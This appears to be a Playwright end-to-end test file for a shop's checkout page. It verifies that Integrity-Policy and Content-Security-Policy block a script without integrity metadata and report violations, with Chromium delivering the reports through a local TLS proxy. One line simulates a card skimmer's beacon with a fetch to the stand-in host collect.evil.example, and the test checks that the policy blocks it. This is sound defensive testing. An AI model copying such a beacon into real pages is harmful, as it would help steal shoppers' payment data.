import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import { integrityDb } from '../../src/integrity/tables.js';
import { scriptInventory, sri384 } from '../../src/integrity/script-inventory.js';
import { freePort, startTestShop, type TestShop } from '../helpers/shop.js';
import { launchBrowser, newVisitor, skip, type BrowserHandle } from './helpers.js';

/**
 * Integrity-Policy in a real Chromium: the checkout page's script (loaded with the inventory's SRI
 * and crossorigin) runs under `Integrity-Policy: blocked-destinations=(script)`; a script added to
 * the page without integrity metadata is blocked; and, with the shop behind TLS, Chromium delivers
 * the integrity-violation and CSP reports to the shop, which raises the payment-path alert.
 *
 *   node --import tsx --test test/e2e/integrity-policy.test.ts
 */

const PROBE = 'document.documentElement.setAttribute("data-probe-" + document.currentScript.dataset.name, "ran");';

async function toCheckout(page: Page, url: string): Promise<void> {
  await page.goto(`${url}/products/fukamushi-sencha`);
  await page.locator('label.variant', { hasText: '200g' }).click();
  await page.getByRole('button', { name: 'カートに入れる' }).click();
  await page.waitForURL(/\/cart/);
}

describe('Integrity-Policy in Chromium', { skip }, () => {
  let shop: TestShop;
  let handle: BrowserHandle;
  before(async () => {
    shop = await startTestShop({ seedDemo: true });
    handle = await launchBrowser();
  });
  after(async () => {
    await handle?.close();
    await shop?.close();
  });

  test('the checkout page\'s script runs under the header; nothing is blocked or reported', async () => {
    const { context, page } = await newVisitor(handle.browser);
    const problems: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'error') problems.push(m.text());
    });
    page.on('pageerror', (e) => problems.push(e.message));
    try {
      await toCheckout(page, shop.url);
      const res = await page.goto(`${shop.url}/checkout`);
      assert.equal(res?.status(), 200);
      const headers = res!.headers();
      assert.equal(headers['integrity-policy'], 'blocked-destinations=(script), endpoints=(integrity)');
      assert.match(headers['content-security-policy'] ?? '', /require-trusted-types-for 'script'/);
      const script = page.locator('script[src^="/static/js/shop.js"]');
      assert.equal(await script.getAttribute('integrity'), scriptInventory().scripts[0]!.sha384);
      assert.equal(await script.getAttribute('crossorigin'), 'anonymous');
      // shop.js shows only the chosen destination's fields: with "orderer" chosen, the others are hidden.
      await page.waitForFunction(() => (document.querySelector('[data-shipto="other"]') as HTMLElement | null)?.hidden === true);
      // And the postal-code lookup fills the prefecture (a fetch to the shop, under connect-src 'self').
      const postal = page.locator('fieldset').first().getByLabel('郵便番号');
      await postal.click();
      await postal.pressSequentially('1000001');
      await page.waitForFunction(() => (document.querySelector('[name="orderer_prefecture"]') as HTMLSelectElement | null)?.value === '東京都');
      assert.deepEqual(problems, []);
    } finally {
      await context.close();
    }
    const rows = await integrityDb(shop.shop.services.handle.db).selectFrom('csp_reports').selectAll().execute();
    assert.deepEqual(rows, [], 'no CSP or integrity report from a clean page');
  });

  test('a script added to the checkout without integrity is blocked; the same with the right integrity runs; the page observes the report', async () => {
    const { context, page } = await newVisitor(handle.browser);
    try {
      await toCheckout(page, shop.url);
      await observeIntegrityReports(page);
      await tamperCheckout(page, shop.url);
      const res = await page.goto(`${shop.url}/checkout`);
      assert.equal(res?.headers()['integrity-policy'], 'blocked-destinations=(script), endpoints=(integrity)');
      await page.waitForFunction(() => document.documentElement.getAttribute('data-probe-with') === 'ran');
      assert.equal(await page.evaluate(() => document.documentElement.getAttribute('data-probe-without')), null, 'the script without integrity did not run');
      // The shop's own script still runs.
      await page.waitForFunction(() => (document.querySelector('[data-shipto="other"]') as HTMLElement | null)?.hidden === true);
      await page.waitForFunction(() => (window as unknown as { __reports: unknown[] }).__reports.length > 0);
      const reports = await page.evaluate(() => (window as unknown as { __reports: { type: string; body: Record<string, unknown> }[] }).__reports);
      assert.equal(reports[0]!.type, 'integrity-violation');
      assert.deepEqual(reports[0]!.body, { documentURL: `${shop.url}/checkout`, blockedURL: `${shop.url}/static/js/probe-a.js`, destination: 'script', reportOnly: false });
      assert.ok(reports.every((r) => String(r.body.blockedURL).endsWith('/probe-a.js')), 'only the script without integrity');
    } finally {
      await context.close();
    }
  });
});

/**
 * Chromium uploads Reporting API reports only to https endpoints (over http://127.0.0.1 it queues
 * them and never sends them). So this part puts the shop behind a TLS front with a throw-away
 * self-signed certificate for localhost, as it runs in production behind a TLS proxy, and checks
 * that Chromium itself delivers the integrity-violation and CSP reports to the shop.
 */
const OPENSSL = ['/usr/bin/openssl', '/usr/local/bin/openssl'].find((f) => existsSync(f));

describe('Integrity-Policy and CSP reports delivered by Chromium (behind TLS)', { skip: skip || (OPENSSL ? false : 'no openssl to make a test certificate') }, () => {
  let shop: TestShop;
  let handle: BrowserHandle;
  let front: { url: string; close(): Promise<void> };
  let certDir: string;
  before(async () => {
    certDir = mkdtempSync(join(tmpdir(), 'mamori-tls-'));
    execFileSync(OPENSSL!, ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', join(certDir, 'key.pem'), '-out', join(certDir, 'cert.pem'), '-days', '2', '-subj', '/CN=localhost', '-addext', 'subjectAltName=DNS:localhost'], { stdio: 'ignore' });
    const port = await freePort();
    shop = await startTestShop({ seedDemo: true, publicUrl: `https://localhost:${port}` });
    front = await tlsFront(port, new URL(shop.url).port, certDir);
    // --short-reporting-delay: Chromium sends queued reports within a second instead of a minute.
    handle = await launchBrowser({ extraArgs: ['--ignore-certificate-errors', '--short-reporting-delay'] });
  });
  after(async () => {
    await handle?.close();
    await front?.close();
    await shop?.close();
    if (certDir) rmSync(certDir, { recursive: true, force: true });
  });

  test('the blocked script is reported to the shop by Chromium and raises the payment-path alert; so is a CSP violation', async () => {
    const context = await handle.browser.newContext({ locale: 'ja-JP', ignoreHTTPSErrors: true });
    context.setDefaultTimeout(10_000);
    const page = await context.newPage();
    try {
      await toCheckout(page, front.url);
      await tamperCheckout(page, front.url);
      const res = await page.goto(`${front.url}/checkout`);
      assert.match(res?.headers()['reporting-endpoints'] ?? '', new RegExp(`integrity="${front.url}/csp-report"`));
      await page.waitForFunction(() => document.documentElement.getAttribute('data-probe-with') === 'ran');
      assert.equal(await page.evaluate(() => document.documentElement.getAttribute('data-probe-without')), null);
      // A skimmer's beacon to another host: blocked by connect-src and reported through report-to.
      await page.evaluate(() => fetch('https://collect.evil.example/c').catch(() => null));

      const db = integrityDb(shop.shop.services.handle.db);
      const deadline = Date.now() + 20_000;
      const rows = async () => db.selectFrom('csp_reports').selectAll().where('document_path', '=', '/checkout').execute();
      while ((await rows()).length < 2 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 200));
      const got = await rows();
      const integrity = got.find((r) => r.directive === 'integrity-policy');
      assert.ok(integrity, `Chromium delivered the integrity-violation report (rows: ${JSON.stringify(got.map((r) => [r.directive, r.blocked_uri]))})`);
      assert.equal(integrity.blocked_uri, `${front.url}/static/js/probe-a.js`);
      assert.equal(integrity.payment_path, 1);
      const csp = got.find((r) => r.directive === 'connect-src');
      assert.ok(csp, 'Chromium delivered the CSP report');
      assert.equal(csp.blocked_uri, 'https://collect.evil.example/c');
      const alerts = await shop.shop.services.alerts.listOpen();
      assert.ok(alerts.some((a) => a.kind === 'csp_violation_payment_path' && a.severity === 'critical' && a.message.includes('Integrity-Policy')));
      assert.ok(alerts.some((a) => a.kind === 'csp_violation_payment_path' && a.dedupe_key.endsWith(':connect-src')));
    } finally {
      await context.close();
    }
  });
});

/** Records the page's own Reporting API reports (what Chromium sends to the endpoint). */
async function observeIntegrityReports(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const w = window as unknown as { __reports: unknown[] };
    w.__reports = [];
    new ReportingObserver((reports) => w.__reports.push(...reports.map((r) => r.toJSON())), { types: ['integrity-violation'], buffered: true }).observe();
  });
}

/** A tampered template: two more scripts on /checkout from the shop's own origin, one without integrity. */
async function tamperCheckout(page: Page, base: string): Promise<void> {
  await page.route(`${base}/checkout`, async (route) => {
    const res = await route.fetch();
    const body = (await res.text()).replace(
      '</head>',
      `<script src="/static/js/probe-a.js" crossorigin="anonymous" data-name="without"></script>` +
        `<script src="/static/js/probe-b.js" integrity="${sri384(PROBE)}" crossorigin="anonymous" data-name="with"></script></head>`,
    );
    await route.fulfill({ response: res, body });
  });
  await page.route(/\/static\/js\/probe-[ab]\.js$/, (route) => route.fulfill({ status: 200, contentType: 'text/javascript; charset=utf-8', body: PROBE }));
}

/** An https server on `port` that forwards every request to the shop on `target` (like a TLS proxy). */
async function tlsFront(port: number, target: string, certDir: string): Promise<{ url: string; close(): Promise<void> }> {
  const server = createHttpsServer({ key: readFileSync(join(certDir, 'key.pem')), cert: readFileSync(join(certDir, 'cert.pem')) }, (req, res) => {
    const upstream = httpRequest({ host: '127.0.0.1', port: Number(target), method: req.method, path: req.url, headers: req.headers }, (up) => {
      res.writeHead(up.statusCode ?? 502, up.rawHeaders);
      up.pipe(res);
    });
    upstream.on('error', () => {
      res.writeHead(502);
      res.end();
    });
    req.pipe(upstream);
  });
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return {
    url: `https://localhost:${port}`,
    close: () => new Promise<void>((resolve) => {
      server.closeAllConnections();
      server.close(() => resolve());
    }),
  };
}
